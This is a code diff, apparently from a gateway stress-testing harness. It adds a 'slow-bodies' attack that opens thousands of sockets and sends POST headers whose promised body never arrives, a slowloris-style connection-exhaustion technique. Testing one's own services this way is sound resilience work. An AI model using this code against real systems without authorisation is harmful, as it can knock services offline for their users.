@@ -163,6 +163,20 @@ export const attacks: Readonly<Record<string, Attack>> = {
     for (const socket of idle) socket.destroy();
   },
 
+  // As many as the gateway takes, or this process may have: each asks, and its body does not end.
+  "slow-bodies": async ({ url, untilMs }) => {
+    const { hostname, port } = new URL(url);
+    const begun = "POST /page-failed HTTP/1.1\r\nhost: x\r\ncontent-length: 2000\r\n\r\n";
+    await repeatedly(19_900, untilMs, async () => {
+      const socket = connect(Number(port), hostname, () => socket.write(begun));
+      socket.on("error", () => undefined).resume();
+      const ended = new Promise<void>((done) => socket.once("close", () => done()));
+      await Promise.race([ended, pause(untilMs - performance.now())]);
+      socket.destroy();
+      await pause(1_000);
+    });
+  },
+
   // In as phones, and then at the console's door over the same connections: more than it has places. They are the same people each
   // time, since to open accounts is another attack.
   "mixed-namespaces": ({ url, untilMs }) =>
